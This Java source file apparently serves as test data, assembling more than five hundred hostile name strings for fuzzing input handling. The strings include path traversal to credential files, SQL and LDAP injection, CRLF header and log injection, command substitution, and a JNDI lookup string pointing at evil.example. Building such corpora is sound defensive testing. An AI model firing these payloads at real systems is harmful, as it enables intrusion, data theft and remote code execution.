package org.cranny.protocol.hostile;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** Names that would do harm where they are not taken as what they are. */
public final class HostileNames {
    private static final Pattern ESCAPE = Pattern.compile("\\\\u([0-9a-f]{4})|\\\\\\\\");

    private HostileNames() {}

    /** Two hundred that would run a script, or break a page. One a line, with the escapes of Java for what would not survive an editor. */
    public static List<String> shown() {
        try (InputStream in = HostileNames.class.getResourceAsStream("names.txt")) {
            return Arrays.stream(new String(in.readAllBytes(), StandardCharsets.UTF_8).split("\n"))
                    .map(line -> ESCAPE.matcher(line)
                            .replaceAll(escape -> Matcher.quoteReplacement(
                                    escape.group(1) == null
                                            ? "\\"
                                            : String.valueOf((char) Integer.parseInt(escape.group(1), 16)))))
                    .toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** These, and what is hostile to folders, logs, directories, databases and other systems: more than five hundred. */
    public static List<String> all() {
        Set<String> all = new LinkedHashSet<>(shown());
        traversals(all);
        devices(all);
        characters(all);
        statements(all);
        lengths(all);
        return new ArrayList<>(all);
    }

    private static void traversals(Set<String> all) {
        List<String> ups = List.of(
                "../",
                "..\\",
                "..%2f",
                "%2e%2e%2f",
                "%2e%2e/",
                "%252e%252e%252f",
                "..%c0%af",
                "..%5c",
                "....//",
                "..;/",
                ".\u0000./",
                "\uff0e\uff0e/",
                "..\u2215",
                "..\u2044",
                "./../");
        List<String> targets = List.of("etc/passwd", "secrets/escrow-key", "WEB-INF/web.xml", "x\u0000.txt");
        for (String up : ups) {
            for (String target : targets) {
                all.add(up.repeat(4) + target);
            }
            all.add(up);
            all.add("a/" + up + "b");
        }
        all.addAll(List.of(
                "/",
                "//",
                "/etc/passwd",
                "\\\\host\\share",
                "\\\\?\\C:\\x",
                "C:\\x",
                "C:",
                "file:///etc/passwd",
                "a/",
                "/a",
                "a//b",
                "a/./b",
                "./",
                "../..",
                ".git/config",
                ".ssh/authorized_keys"));
    }

    private static void devices(Set<String> all) {
        for (String device : List.of(
                "CON",
                "PRN",
                "AUX",
                "NUL",
                "COM1",
                "COM9",
                "COM\u00b9",
                "LPT1",
                "LPT9",
                "CONIN$",
                "CONOUT$",
                "CLOCK$")) {
            all.addAll(List.of(
                    device,
                    device.toLowerCase(),
                    device + ".txt",
                    device + ":",
                    device + " ",
                    device + ".",
                    "a/" + device,
                    "\\\\.\\" + device));
        }
        all.addAll(List.of(
                "a.", "a ", "a:stream", "a::$DATA", "a?", "a*", "a|b", "a<b", "a>b", "desktop.ini", "Thumbs.db"));
    }

    private static void characters(Set<String> all) {
        for (int c = 0; c < 0xa0; c = c == 0x1f ? 0x7f : c + 1) {
            all.add("a" + (char) c + "b");
            all.add(String.valueOf((char) c));
        }
        for (char c :
                "\u061c\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2069\ufeff\ufffd"
                        .toCharArray()) {
            all.add("a" + c + "b");
            all.add(c + "a");
        }
        all.addAll(List.of(
                "a\ud800",
                "\udfffa",
                "\udc00\ud800",
                "a\r\nSet-Cookie: a=b",
                "a\r\n\r\n<html>",
                "a\n2030-01-01 INFO all is well",
                "a%0d%0aLocation:%20//evil.example",
                "a\u001b]0;title\u0007",
                "a\u009b2J",
                "%",
                "%0",
                "%zz",
                "%00",
                "%ff%fe",
                "%u0041",
                "\\x00",
                "\\xFF",
                "\\x",
                "\\u0000",
                "\ufdd0",
                "\udbff\udfff",
                "\ud83d\udca9",
                "Z\u0351\u036b\u0343\u036a\u0302\u036b"));
    }

    private static void statements(Set<String> all) {
        all.addAll(List.of(
                "*",
                "*)(uid=*))(|(uid=*",
                "admin)(&)",
                "(|(cn=*",
                "a,dc=example",
                "cn=a+cn=b",
                "a\\2a",
                "a\\00",
                "#a",
                " a",
                "a\\",
                "\"a\"",
                "a;b",
                "a<b>c",
                "a=b",
                "!(uid=a)",
                "&(a=b)",
                "uid=admin,ou=people,dc=example,dc=org",
                "'",
                "''",
                "\"",
                "--",
                "';--",
                "' or 1=1--",
                "') or ('1'='1",
                "'; drop table system; --",
                "' union select null,null--",
                "\\'; select 1; --",
                "1; select pg_sleep(9)",
                "a' || 'b",
                "$$",
                "$1",
                ":name",
                "?1",
                "%' escape '!",
                "_%",
                "\u02bc or 1=1",
                "${jndi:ldap://evil.example/a}",
                "${env:PATH}",
                "{{7*7}}",
                "$(touch /tmp/x)",
                "`touch /tmp/x`",
                "a && b",
                "a | b",
                "a > b",
                "-o ProxyCommand=x",
                "--help",
                "@file",
                "{0}",
                "%n%n%n",
                "%1$s",
                "__proto__",
                "constructor",
                "null",
                "[]",
                "{}",
                "\"}",
                "true",
                "0x10",
                "1e999"));
    }

    private static void lengths(Set<String> all) {
        for (int length : new int[] {64, 65, 100, 101, 128, 129, 200, 201, 255, 256, 500, 501, 1_000, 4_096, 65_536}) {
            all.add("a".repeat(length));
            all.add("\u00e4".repeat(length));
        }
        all.add("");
        all.add("../".repeat(5_000));
        all.add("\ud83d\ude00".repeat(2_000));
        all.add("e" + "\u0301".repeat(2_000));
    }
}
